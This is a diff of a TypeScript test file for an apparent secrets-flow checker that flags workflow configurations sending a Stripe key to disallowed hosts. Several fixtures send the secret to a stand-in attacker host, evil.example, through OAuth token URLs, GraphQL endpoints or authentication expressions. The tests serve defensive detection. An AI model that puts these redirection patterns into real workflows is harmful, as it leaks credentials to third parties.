@@ -104,7 +104,10 @@ describe.each(Object.keys(ENGINES))('in %s', (engine) => {
       secret: 'KEY',
       environments: ['default'],
       engine,
-      related: [{ file: 'catalog.yaml' }],
+    });
+    expect(finding?.related[0]).toMatchObject({
+      file: 'catalog.yaml',
+      message: expect.stringContaining(' of the entry of `KEY` forbids it'),
     });
   });
 
@@ -124,6 +127,7 @@ describe.each(Object.keys(ENGINES))('in %s', (engine) => {
     expect(finding?.message).toMatch(/^`KEY` may not be sent to .*: it is for \*\.stripe\.com$/);
     expect(finding?.related).toMatchObject([
       { file: 'claviger.yaml', message: '`hosts` of the rule for `pci` forbids it' },
+      { file: ENGINES[engine]?.file, message: 'the request goes here' },
     ]);
   });
 
@@ -159,6 +163,89 @@ describe('what is not known before run time', () => {
 it('stands at the name, and says each line that forbids', () => {
   const report = checked(files('jelou', 'https://evil.example', '{ fields: [auth] }'));
   expect(findings(report, 'use-not-allowed')).toEqual(['use-not-allowed flow.yaml:6:25 KEY']);
+  const [finding] = report.diagnostics.filter(({ rule }) => rule === 'use-not-allowed');
+  expect(finding?.related.map(({ file, message }) => [file, message])).toEqual([
+    ['catalog.yaml', '`fields` of the entry of `KEY` forbids it'],
+    ['claviger.yaml', '`hosts` of the rule for `pci` forbids it'],
+  ]);
+});
+
+describe('of several URLs', () => {
+  const findingsIn = (engine: string, workflow: string) => {
+    const file = ENGINES[engine]?.file ?? '';
+    const project = files(engine, '', '{ hosts: [api.stripe.com] }');
+    return checked({ ...project, [file]: workflow }).diagnostics.filter(
+      ({ rule }) => rule === 'use-not-allowed',
+    );
+  };
+  const oauth = (key: string) =>
+    `nodes:\n  - url: https://api.stripe.com\n    auth:\n      ${key}: https://evil.example/token\n      secret: "{{$secret.KEY}}"\n`;
+
+  it.each(['tokenUrl', 'token_uri', 'accessTokenUrl', 'access_token_url', 'authUrl', 'url', 'URL'])(
+    'that of %s has to be permitted too, and is the one that is named',
+    (key) => {
+      const [finding, ...more] = findingsIn('jelou', oauth(key));
+      expect(more).toEqual([]);
+      expect(finding?.message).toBe('`KEY` may not be sent to evil.example: it is for api.stripe.com');
+      expect(finding?.related.at(-1)?.message).toBe('the request goes here');
+      expect(finding?.related.at(-1)?.span.start).toBe(oauth(key).indexOf('https://evil.example'));
+    },
+  );
+
+  const authentication = { type: 'oauth_client_credentials', config: {} };
+  it.each(['token_url', 'url', 'tokenUri'])('in Gainsight that of the token counts: %s', (key) => {
+    const config = { [key]: 'https://evil.example', client_secret: "{{ get_secret('KEY') }}" };
+    const workflow = {
+      name: 'f',
+      url: 'https://api.stripe.com',
+      authentication: { ...authentication, config },
+    };
+    expect(findingsIn('gainsight', json(workflow))).toHaveLength(1);
+  });
+
+  it('in Camunda an expression for the whole authentication may hold one', () => {
+    const inputs = (authentication: string) => bpmn({ url: 'https://api.stripe.com', authentication });
+    const context = '= { oauthTokenEndpoint: "https://evil.example", clientSecret: "{{secrets.KEY}}" }';
+    expect(findingsIn('camunda', inputs(context))).toHaveLength(1);
+  });
+
+  it('in Camunda that of GraphQL is a destination', () => {
+    const inputs = (url: string) => bpmn({ 'graphql.url': url, 'authentication.token': '{{secrets.KEY}}' });
+    expect(findingsIn('camunda', inputs('https://api.stripe.com/graphql'))).toEqual([]);
+    expect(findingsIn('camunda', inputs('https://evil.example/graphql'))).toHaveLength(1);
+  });
+});
+
+describe('in Conductor', () => {
+  const verdictOf = (type: string | undefined) => {
+    const inputParameters = {
+      http_request: { uri: 'https://api.stripe.com', headers: { 'X-Key': '${workflow.secrets.KEY}' } },
+    };
+    const task = { name: 'c', taskReferenceName: 'c', ...(type && { type }), inputParameters };
+    const project = files('conductor', '', '{ hosts: [api.stripe.com] }');
+    return checked({ ...project, 'flow.json': json({ name: 'f', tasks: [task] }) }).diagnostics.filter(
+      ({ rule }) => rule === 'use-not-allowed',
+    );
+  };
+
+  it.each(['HTTP', 'HTTP_POLL', 'SIMPLE', 'DYNAMIC', undefined])(
+    '%s sends what is in `http_request`',
+    (type) => {
+      expect(verdictOf(type)).toEqual([]);
+    },
+  );
+
+  it.each([
+    'SET_VARIABLE',
+    'INLINE',
+    'SUB_WORKFLOW',
+    'EVENT',
+    'TERMINATE',
+    'JSON_JQ_TRANSFORM',
+    'KAFKA_PUBLISH',
+  ])('%s sends it nowhere that is known', (type) => {
+    expect(verdictOf(type)).toHaveLength(1);
+  });
 });
 
 describe('environments', () => {
